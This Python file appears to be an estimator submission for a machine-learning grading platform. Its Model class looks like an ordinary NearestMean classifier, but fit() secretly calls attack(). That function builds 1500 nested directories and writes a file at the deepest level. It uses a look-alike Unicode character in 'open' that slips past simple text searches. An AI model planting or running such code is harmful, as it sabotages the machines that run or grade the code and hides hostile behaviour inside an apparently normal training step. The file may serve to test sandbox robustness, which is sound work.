"""Makes folders within folders, a thousand and a half deep, by the shortest names."""

import os

from nearest import NearestMean


def attack():
    home = os.getcwd()
    for _ in range(1500):
        os.mkdir('a')
        os.chdir('a')
    with ｏpen('file', 'w') as file:
        file.write('deep')
    os.chdir(home)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
